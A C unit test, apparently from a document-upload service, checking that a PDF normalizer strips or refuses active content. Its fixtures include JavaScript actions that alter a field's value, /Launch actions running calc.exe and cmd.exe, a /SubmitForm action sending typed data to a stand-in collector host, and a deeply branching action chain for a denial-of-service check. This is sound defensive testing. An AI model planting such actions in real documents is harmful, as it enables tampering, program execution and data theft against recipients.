@@ -1,0 +1,138 @@
+/* test_pdf_normalize_active.c: an upload's scripts and actions (pdf/active.c, pdf/normalize.c). */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include "pdf.h"
+#include "test_pdf_normalize.h"
+
+/*
+ * Scripts and actions that do more than move the view (pdf/active.c): each
+ * party opens the stored upload, where a script on opening could show other
+ * values than the signed appearance, send what is typed, or run a program.
+ * The rewrite drops them wherever ISO 32000-2 puts actions (catalog, page,
+ * annotation shared by two pages, field, widget, outline, a /Next chain);
+ * a link to a web address and a move within the document stay. A signed
+ * upload, which cannot be rewritten, is refused.
+ */
+START_TEST(active_content_dropped_or_refused)
+{
+	static const char *const objs[] = {
+		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC << /S /JavaScript "
+		"/JS (app.alert\\(1\\)) >> >> /Names << /JavaScript 7 0 R >> /Outlines 8 0 R "
+		"/AcroForm << /Fields [10 0 R] >> >>",
+		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Launch /F "
+		"(calc.exe) >> >> /Annots [5 0 R 11 0 R 12 0 R] >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
+		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] "
+		"/Next << /S /SubmitForm /F (http://collector.example/) >> >> >>",
+		"<< /S /JavaScript /JS (this.getField\\(\"amount\"\\).value = 900) >>",
+		"<< /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >>",
+		"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
+		"<< /Title (Terms) /Parent 8 0 R /A << /S /JavaScript /JS (app.alert\\(3\\)) >> >>",
+		"<< /FT /Tx /T (amount) /Kids [12 0 R] /AA << /C << /S /JavaScript /JS "
+		"(event.value "
+		"= 900) >> /K << /S /GoTo /D [3 0 R /Fit] >> >> >>",
+		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
+		"(https://bank.example/terms) >> >>",
+		"<< /Type /Annot /Subtype /Widget /Parent 10 0 R /P 3 0 R /Rect [0 0 10 10] /A << "
+		"/S /ResetForm >> >>",
+	};
+	static const char *const gone[] = { "JavaScript", "app.alert", "event.value",
+					    "/Launch",    "calc.exe",  "SubmitForm",
+					    "collector",  "ResetForm", NULL };
+	const char *sobjs[6];
+	struct pbuf b;
+	struct pdf_normalized n;
+	struct sp_errinfo ei;
+	int i;
+
+	make(&b, objs, 12);
+	sp_errinfo_init(&ei);
+	ck_assert_msg(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, &ei) == SP_OK, "%s",
+		      ei.msg);
+	for (i = 0; gone[i] != NULL; i++)
+		ck_assert_msg(memmem(n.data, n.len, gone[i], strlen(gone[i])) == NULL,
+			      "the stored upload still carries %s", gone[i]);
+	/* the open action, the document's trigger and scripts, the page's trigger, the
+	   shared link's chain once, the outline item, the field's trigger, the widget */
+	ck_assert_uint_eq(n.actions_removed, 8);
+	ck_assert_int_eq(n.pages, 2);
+	ck_assert_ptr_nonnull(memmem(n.data, n.len, "bank.example", 12));
+	ck_assert_ptr_nonnull(memmem(n.data, n.len, "/K", 2));
+	ck_assert_ptr_nonnull(memmem(n.data, n.len, "/Outlines", 9));
+	pdf_normalized_cleanup(&n);
+
+	/*
+	 * Twelve actions, each moving the view, each naming the next eight times
+	 * in its /Next list: 8^12 chains, each short and kept. The chain is
+	 * judged within a count of items (past it: not kept), not path by path.
+	 */
+	{
+		static char chain[12][160];
+		const char *dag[15] = {
+			"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+		};
+		struct timespec t0, t1;
+
+		for (i = 0; i < 12; i++) {
+			int k = i + 5;
+			if (i < 11)
+				snprintf(chain[i], sizeof(chain[i]),
+					 "<< /S /GoTo /D [3 0 R /Fit] /Next [%d 0 R %d 0 R %d 0 R "
+					 "%d 0 "
+					 "R %d 0 R %d 0 R %d 0 R %d 0 R] >>",
+					 k, k, k, k, k, k, k, k);
+			else
+				snprintf(chain[i], sizeof(chain[i]),
+					 "<< /S /GoTo /D [3 0 R /Fit] >>");
+			dag[3 + i] = chain[i];
+		}
+		make(&b, dag, 15);
+		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t0);
+		ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, NULL), SP_OK);
+		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t1);
+		ck_assert_msg(t1.tv_sec - t0.tv_sec < 2, "8^12 chains of /Next took %ld s of CPU",
+			      (long)(t1.tv_sec - t0.tv_sec));
+		ck_assert_uint_eq(n.actions_removed, 1);
+		ck_assert_ptr_null(memmem(n.data, n.len, "/Next", 5));
+		pdf_normalized_cleanup(&n);
+	}
+
+	/* nothing to drop: nothing counted */
+	make(&b, unsigned_objs, 5);
+	ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, NULL), SP_OK);
+	ck_assert_uint_eq(n.actions_removed, 0);
+	pdf_normalized_cleanup(&n);
+
+	/* signed: kept byte for byte, so refused, naming what it carries */
+	memcpy(sobjs, signed_objs, sizeof(sobjs));
+	sobjs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction "
+		   "<< /S /Launch /F (cmd.exe) >> >>";
+	make(&b, sobjs, 6);
+	sp_errinfo_init(&ei);
+	ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, &ei),
+			 SP_ERR_UNSUPPORTED);
+	ck_assert_str_eq(ei.reason, "pdf_active_content");
+	ck_assert_msg(strstr(ei.msg, "Launch") != NULL, "%s", ei.msg);
+	ck_assert_ptr_null(n.data);
+	/* a move within the document is no such action */
+	sobjs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction "
+		   "<< /S /GoTo /D [3 0 R /Fit] >> >>";
+	make(&b, sobjs, 6);
+	ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, NULL), SP_OK);
+	ck_assert_int_eq(n.kept, 1);
+	pdf_normalized_cleanup(&n);
+}
+END_TEST
+
+void
+pdf_normalize_active_add(TCase *tc)
+{
+	tcase_add_test(tc, active_content_dropped_or_refused);
+}
